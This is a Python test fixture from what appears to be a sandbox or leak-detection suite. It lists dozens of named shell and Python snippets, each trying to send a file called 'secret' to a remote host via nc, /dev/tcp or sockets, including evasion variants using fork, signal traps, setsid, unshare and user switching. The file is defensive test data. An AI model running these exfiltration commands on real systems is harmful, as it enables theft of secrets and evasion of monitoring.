# SPDX-License-Identifier: GPL-3.0-or-later
"""Leaks at every moment: at start, after fork, after exec, in handlers, in threads, after much work, at the end."""

from tests.leaks.row import Leak, snippet


def scripts():
    """Name -> shell script."""
    return {
        "first-thing": "exec nc remote 9 < secret",
        **{name: f"way {name} secret" for name in (
            "constructor", "handler", "handler-in-call", "handler-in-loop", "handler-of-fault", "handler-of-child", "at-exit", "thread",
            "thread-after-main", "thread-of-old", "lock-of-threads", "daemon", "generations", "after-calls", "after-computing", "after-children",
            "after-sleeping", "as-somebody-else", "in-another-root", "unlinked")},
        "after-fork": "leak fork write secret",
        "after-exec": "leak exec write secret",
        "by-child": "leak read child secret",
        "by-vfork": "leak read vfork secret",
        "by-spawn": "leak read spawn secret",
        "by-thread": "leak read thread secret",
        "subshell": "(x=$(< secret); (echo \"$x\" | (cat)) ) | nc remote 9",
        "background": "{ sleep 0.2; nc remote 9 < secret; } & wait $!",
        "session-of-its-own": "setsid bash -c 'nc remote 9 < secret'",
        "other-user": "chmod 644 secret; chmod 755 .; setpriv --reuid 1000 --clear-groups bash -c 'cat secret > /dev/tcp/10.77.0.2/9'",
        "other-namespaces": "unshare --mount --pid --fork --uts bash -c 'nc 10.77.0.2 9 < secret'",
        "with-filter": "setpriv --no-new-privs bash -c 'nc 10.77.0.2 9 < secret'",
        "after-many-programs": "x=$(< secret); for ((i = 0; i < 20; i++)); do true; /usr/bin/true; done; echo \"$x\" > /dev/tcp/remote/9",
        "after-many-files": "x=$(< secret); for ((i = 0; i < 100; i++)); do echo $i > public.$i; done; echo \"$x\" > /dev/tcp/remote/9",
        "after-innocent-sending": "x=$(< secret); echo constant > /dev/tcp/remote/9; echo \"$x\" > /dev/tcp/remote/9",
        "trap-of-signal": "x=$(< secret); trap 'echo \"$x\" > /dev/tcp/remote/9' USR1; kill -USR1 $$; true",
        "trap-of-debugging": "x=$(< secret); trap 'trap - DEBUG; echo \"$x\" > /dev/tcp/remote/9' DEBUG; true",
        "python-at-exit": snippet("import atexit\natexit.register(send, read())"),
        "python-process": snippet("import os\ndata = read()\nif not os.fork():\n    send(data)\n    os._exit(0)\nos.wait()"),
        "python-thread": snippet("import threading\ndata = read()\nthread = threading.Thread(target=send, args=(data,))\n"
                                 "thread.start()\nthread.join()"),
        "python-loop": snippet("import asyncio\nasync def main():\n    _, out = await asyncio.open_connection('10.77.0.2', 9)\n"
                               "    out.write(read())\n    await out.drain()\n    out.close()\nasyncio.run(main())"),
    }


# Bytes that were sent before the secret have already arrived.
PASSES = {"after-innocent-sending": b"constant\n"}
LEAKS = [Leak(name, script, passes=PASSES.get(name, b"")) for name, script in scripts().items()]
